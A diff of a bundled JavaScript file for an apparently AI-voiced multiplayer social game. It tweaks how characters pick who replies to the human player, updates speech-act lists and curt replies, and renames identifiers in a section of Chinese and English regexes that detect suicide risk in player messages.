 	const partner = company.present().find(({ seat }) => seat === understood.partner && !spokenOf.has(seat));
 	if (spokenOf.size > 0 && partner && !reach.everybody) return [{ speaker: partner, how: "you", urge: 1 }];
 	const ofDead = keen.length === 0 && reach.to.length > 0;
-	if (!ofDead && !isAnswerable(moves, read.text) && moves.every(({ act }) => !TO_ANYBODY.has(act))) return keen;
+	const asks = ASKS.test(read.text) && moves.every(({ act }) => act === "unclear");
+	if (!ofDead && !asks && !isAnswerable(moves, read.text) && moves.every(({ act }) => !TO_ANYBODY.has(act)))
+		return keen;
 	const settings = options.settings();
 	const best = company.present().filter(
 		({ seat }) => seat !== said.from && !spokenOf.has(seat) && mayWant(seat, "all", settings) && !hasLeft(state, seat)
@@ -42373,7 +43357,8 @@ function withSomebody(state, understood, keen, purpose) {
 			worth: worthOf2(plan, speaker.seat) + eager + 0.1 * chance(state, "most", state.heard, speaker.seat)
 		};
 	}).sort((a, b) => b.worth - a.worth)[0];
-	return best ? [{ speaker: best.speaker, how: spokenOf.size > 0 ? "mentioned" : "all", urge: 1 }] : keen;
+	const how = spokenOf.size > 0 || reach.to.some(({ seat }) => present.has(seat)) ? "mentioned" : "all";
+	return best ? [{ speaker: best.speaker, how, urge: 1 }] : keen;
 }
 const asksOfThem = ({ to, of, everybody }, moves, from) => {
 	const main = weightiest(moves);
@@ -42393,12 +43378,19 @@ const TO_ANYBODY = new Set([
 	"topic",
 	"sorrow",
 	"greet",
-	"bye"
+	"bye",
+	"thanks",
+	"praise",
+	"apology"
 ]);
 const slandered2 = ({ hearing }, present) => hearing(null, false).flatMap(({ act, facts = [] }) => act === "report" ? facts : []).find(({ verdict, by }) => verdict === "false" && by !== void 0 && present.has(by))?.by;
-const OF_DOER = new Set(["ask_why", "accuse", "blame", "ask_plan", "ask_role"]);
-function onlyItKnows(moves, seat) {
+const OF_DOER = new Set(["ask_why", "accuse", "blame", "ask_plan", "ask_role", "praise"]);
+function onlyItKnows(moves, seat, from) {
 	const main = weightiest(moves);
+	if (moves.some(
+		({ facts = [] }) => facts.some(({ verdict, by, to }) => verdict === "true" && by === seat && to === from)
+	))
+		return true;
 	const wronged = main?.facts?.some(({ verdict, by, denied }) => verdict === "false" && by === seat && !denied);
 	return main !== null && (wronged === true || main.about === seat && OF_DOER.has(main.act));
 }
@@ -42418,7 +43410,7 @@ function bestPlaced(state, understood, first, purpose) {
 	const toYou = saysYou(read);
 	const takesUp = () => hearing(only.speaker.seat, true).some(({ refersTo }) => refersTo !== void 0);
 	if (only.how === "you" && (toYou || takesUp() || goesOn2(read, said.from))) return first;
-	if (onlyItKnows(hearing(only.speaker.seat, toYou), only.speaker.seat)) return first;
+	if (onlyItKnows(hearing(only.speaker.seat, toYou), only.speaker.seat, said.from)) return first;
 	const settings = options.settings();
 	const spokenOf = onlySpokenOf(understood);
 	const others = company.present().filter(
@@ -42430,14 +43422,14 @@ function bestPlaced(state, understood, first, purpose) {
 	};
 	const own = fitness(only);
 	if (own === -Infinity) return first;
-	const best = likeliest2(only, others, ANOTHER, (one) => one === only ? own : fitness(one));
+	const best = likeliest3(only, others, ANOTHER, (one) => one === only ? own : fitness(one));
 	return best === only ? first : [{ ...best, owed: only.how !== "all" }];
 }
 
 // src/chatter/flow/listening.ts
 const WITHHELD_FROM = 0.7;
 const REPLY_PRIORITY = 10;
-const nothing = ({ crisis }, detection, entry) => ({
+const nothing2 = ({ crisis }, detection, entry) => ({
 	crisis,
 	entry,
 	moves: [],
@@ -42474,10 +43466,10 @@ function hear6(state, remark, now) {
 	const isAi = company.present().some(({ seat }) => seat === from);
 	if (!isAi && (crisis.score >= WITHHELD_FROM || !options.control().allowed)) {
 		queue.clear();
-		return nothing(perceived, null, log.add({ at: now, round, from, withheld: true }).id);
+		return nothing2(perceived, null, log.add({ at: now, round, from, withheld: true }).id);
 	}
 	const first = heardBy(state, said, partner, before, now);
-	if (isAi) return nothing(perceived, first, before[before.length - 1]?.id ?? 0);
+	if (isAi) return nothing2(perceived, first, before[before.length - 1]?.id ?? 0);
 	const hearing = hearingOf(state, line, from);
 	const read = pointersIn(line, scene, from, partner);
 	const plain = addressedBy(read, from, partner, scene);
@@ -42495,7 +43487,7 @@ function hear6(state, remark, now) {
 	state.ledger.record(claimsIn(line, { scene, speaker: from, you: primary }), scene);
 	for (const { bond } of company.members()) bond.planner.turn();
 	options.onAddressed?.(line, new Set(reach.to.map(({ seat }) => seat)));
-	if (!options.settings().on) return { ...nothing(perceived, detection, entry), addressed: reach.to };
+	if (!options.settings().on) return { ...nothing2(perceived, detection, entry), addressed: reach.to };
 	return respond(state, { said, read, reach, detection, primary, partner, before, entry, hearing }, now);
 }
 function respond(state, understood, now) {
@@ -42596,6 +43588,7 @@ function concernsOthers({ said, detection, hearing }, hearer, { options }) {
 	const { act } = monitor({ line, scene: options.scene, detection, hearer, from: said.from, moves });
 	return FOR_OTHERS.has(act);
 }
+const curtly = (intent, how, route) => intent.asks && intent.plan !== null && intent.style !== null && how === "named" && route === "NORMAL" ? { ...intent, plainly: true, style: { ...intent.style, coldness_gate: 1 } } : null;
 function plan(state, {
 	listener: { speaker, how },
 	answer: { intent, monologue },
@@ -42606,7 +43599,9 @@ function plan(state, {
 	const { options, log } = state;
 	const { seat } = speaker;
 	const leaves = intent?.occasions[0]?.occasion === "boundary_leave";
-	const line = intent === null || hasLeft(state, seat) && !leaves ? null : compose(state, intent);
+	const away = hasLeft(state, seat) && !leaves;
+	const said = away && intent !== null ? curtly(intent, how, route) : intent;
+	const line = said === null ? null : compose(state, said);
 	if (intent === null || line === null) {
 		if (how !== "all")
 			log.add({
@@ -42639,22 +43634,23 @@ function plan(state, {
 	);
 	return { speaker: seat, occasion: line.occasion, at };
 }
-const HURTS = new Set(["blame", "taunt", "threat"]);
+const HURTS2 = new Set(["blame", "taunt", "threat"]);
 function targetsOf2(understood) {
 	const moves = understood.hearing(understood.primary, true);
-	return new Set(moves.flatMap(({ act, about }) => HURTS.has(act) && about !== void 0 ? [about] : []));
+	return new Set(moves.flatMap(({ act, about }) => HURTS2.has(act) && about !== void 0 ? [about] : []));
 }
 function evolve(state, understood, reached) {
 	const { options, company } = state;
 	const { said, reach, detection } = understood;
 	if (said.from !== options.scene.human) return;
 	const { target_is_assistant: toHearer, quoted_or_reported_speech: quoted } = detection.detection_meta;
+	const sorry = takesBack(understood.read.text);
 	const targets = detection.detection_scores.hostile > 0 ? targetsOf2(understood) : new Set();
 	for (const { speaker, bond } of company.members()) {
 		const own = reached.get(speaker.seat);
 		const abused = targets.has(speaker.seat) && quoted === 0;
 		const meant = own !== void 0 || reach.to.some(({ seat }) => seat === speaker.seat) || reach.everybody || abused;
-		const atMe = quoted === 0 && (abused || targets.size === 0 && toHearer === 1);
+		const atMe = quoted === 0 && !sorry && (abused || targets.size === 0 && toHearer === 1);
 		if (meant && options.scene.table.bySeat.get(speaker.seat)?.alive !== false) {
 			afterHearing(bond.relation, own?.detection ?? detection, own?.act ?? null, roundOf2(state), atMe);
 		}
@@ -42869,7 +43865,7 @@ function holdToWord(state, facts) {
 }
 
 // src/chatter/flow/moments.ts
-const EVERYBODY2 = new Set([
+const EVERYBODY3 = new Set([
 	"lord_first_attacked",
 	"lord_saved",
 	"lord_low",
@@ -42879,7 +43875,7 @@ const EVERYBODY2 = new Set([
 	"two_left",
 	"suspect"
 ]);
-const WEIGHTS9 = {
+const WEIGHTS10 = {
 	lord_first_attacked: 0.75,
 	lord_saved: 0.65,
 	lord_low: 0.7,
@@ -42934,8 +43930,8 @@ function openingsOf(fact, { scene, seats, before, now }) {
 			who: null,
 			hostile: false,
 			...more,
-			weight: WEIGHTS9[moment] ?? 0.4,
-			adjacent: seat === by || seat === to || EVERYBODY2.has(moment)
+			weight: WEIGHTS10[moment] ?? 0.4,
+			adjacent: seat === by || seat === to || EVERYBODY3.has(moment)
 		});
 	};
 	const others = (each) => {
@@ -43369,7 +44365,7 @@ function due(state, now, humanIsDeciding) {
 		const { seat } = item.intent.speaker;
 		if (quiet && !mayInterrupt(state, item)) continue;
 		if (!floor.isFree(seat, now) || isAwaited(state, item, now)) continue;
-		const words = worded2(state, item);
+		const words = worded3(state, item);
 		queue.remove(item);
 		if (!isMust(item) && !floor.hasRoom(roundOf2(state), settings, item.kind !== "reply" && !item.intent.must)) {
 			keepSilent(state, item, now);
@@ -43392,7 +44388,8 @@ function mayStillSpeak({ options, company }, { intent, line, kind, named }) {
 	const lives = company.present().some((speaker) => speaker.seat === seat);
 	if (!lives && line.occasion !== "last_words") return false;
 	const patience = company.memberOf(seat)?.bond.patience;
-	return patience === void 0 || intent.you === null || intent.you !== human || line.occasion === "boundary_leave" || !isAway(patience, table.round);
+	return patience === void 0 || intent.you === null || intent.you !== human || line.occasion === "boundary_leave" || // A question put to it by name gets its one curt line (listening.ts).
+	kind === "reply" && named && intent.asks && intent.plan !== null || !isAway(patience, table.round);
 }
 function finalLine(state, { intent, line, route }, words) {
 	const { options } = state;
@@ -44626,7 +45623,7 @@ function breaksHold(spoken, { allowed, words, told, me = null }) {
 }
 
 // src/chatter/judge/judge.ts
-const NOTHING3 = { deviations: [], ends: [], waiting: false, missing: [] };
+const NOTHING4 = { deviations: [], ends: [], waiting: false, missing: [] };
 function defaultVerdict(stored, beats, why) {
 	const whole = typeof stored === "number" && Number.isFinite(stored) ? Math.trunc(stored) : 0;
 	return {
@@ -44703,7 +45700,7 @@ function languageOf(beats, log) {
 function examine(input, language) {
 	try {
 		if (!Array.isArray(input.beats) || !Array.isArray(input.dialogue) || input.beats.length === 0) {
-			return { verdict: defaultVerdict(input.stored_beat_idx, 0, "NO_ANALYSIS"), ...NOTHING3 };
+			return { verdict: defaultVerdict(input.stored_beat_idx, 0, "NO_ANALYSIS"), ...NOTHING4 };
 		}
 		return examined(input, language ?? languageOf(input.beats, input.dialogue));
 	} catch {
@@ -44714,7 +45711,7 @@ function examine(input, language) {
 				Array.isArray(beats) ? beats.length : 0,
 				"EXECUTION_FAILED"
 			),
-			...NOTHING3
+			...NOTHING4
 		};
 	}
 }
@@ -47480,15 +48477,15 @@ function answeredIn({ raw, text }, spoken, fallback) {
 }
 
 // src/care/danger.ts
-const MEANS3 = "(?:药|安眠药|农药|瓶子|刀片|刀|绳子?|皮带|炭|煤气|汽油|枪|酒和药|遗书|信|窗户?|阳台|天台|楼顶|顶楼|桥上?|江边|河边|海边|铁轨)";
+const MEANS4 = "(?:药|安眠药|农药|瓶子|刀片|刀|绳子?|皮带|炭|煤气|汽油|枪|酒和药|遗书|信|窗户?|阳台|天台|楼顶|顶楼|桥上?|江边|河边|海边|铁轨)";
 const MEANS_EN = "(?:pills?|meds|tablets|bottle|knife|blade|razor|rope|belt|noose|gun|note|letters?|window|roof|ledge|bridge|tracks|car|charcoal|gas)";
 const READY = [
 	new RegExp(
-		`${MEANS3}[^,.!?;:]{0,3}(?:已经|都|也|就)?[^,.!?;:]{0,2}(?:准备好|备好|准备|备齐|买好|买了|买到|拿到|到了|到手|齐了|写好|写完|数好|打开|开了|开着|关好|在手|就在|在旁边|在桌上|在面前|有了|够了|挂好|绑好|系好|点了|点着)`,
+		`${MEANS4}[^,.!?;:]{0,3}(?:已经|都|也|就)?[^,.!?;:]{0,2}(?:准备好|备好|准备|备齐|买好|买了|买到|拿到|到了|到手|齐了|写好|写完|数好|打开|开了|开着|关好|在手|就在|在旁边|在桌上|在面前|有了|够了|挂好|绑好|系好|点了|点着)`,
 		"g"
 	),
 	new RegExp(
-		`(?:拿着|握着|备好|准备好|买好|写好|写完|数好|打开|站在|坐在|爬上|到了|上了|走到|找到|拿到)了?[^,.!?;:]{0,4}${MEANS3}`,
+		`(?:拿着|握着|备好|准备好|买好|写好|写完|数好|打开|站在|坐在|爬上|到了|上了|走到|找到|拿到)了?[^,.!?;:]{0,4}${MEANS4}`,
 		"g"
 	),
 	/(?:在|到)(?:天台|楼顶|顶楼|窗台|桥上|江边|河边|海边|铁轨)(?:上)?了/g,
@@ -47554,12 +48551,12 @@ const WISH2 = [
 	/\bwish (?:that )?i (?:was|were|wasn'?t|weren'?t|had never been|could) (?:dead|alive|here|born|die|never wake up)\b|\bbetter off dead\b|\b(?:kill|killing) myself\b|\blet me die\b|\b(?:tired|done) (?:of|with) (?:living|being alive|life)\b/g
 ];
 const OTHERS4 = /(?:他|她|朋友|闺蜜|兄弟|哥们|同学|室友|同事|弟弟|妹妹|哥哥|姐姐|爸|妈|儿子|女儿|老公|老婆|男友|女友|有人|谁|你)[^,.!?;:我]{0,8}$|\b(?:he|she|they|friend|brother|sister|mom|dad|son|daughter|wife|husband|roommate|you)(?:'s)?(?: (?!(?:i|and|but|so)\b)\w+){0,4} ?$/;
-const TAKEN_BACK2 = /(?:不|没有?|不会|别|并非|不是)(?:真的?|说|因为|在|太|再)?$|\b(?:not|never|no|didn'?t|don'?t)(?: \w+)? ?$/;
+const TAKEN_BACK3 = /(?:不|没有?|不会|别|并非|不是)(?:真的?|说|因为|在|太|再)?$|\b(?:not|never|no|didn'?t|don'?t)(?: \w+)? ?$/;
 function wishedIn(text) {
 	return WISH2.some((words) => {
 		for (const match of text.matchAll(words)) {
 			const before = text.slice(0, match.index).split(/[,.!?;:，。！？；：\n]/).pop() ?? "";
-			if (!OTHERS4.test(before) && !TAKEN_BACK2.test(before)) return true;
+			if (!OTHERS4.test(before) && !TAKEN_BACK3.test(before)) return true;
 		}
 		return false;
 	});
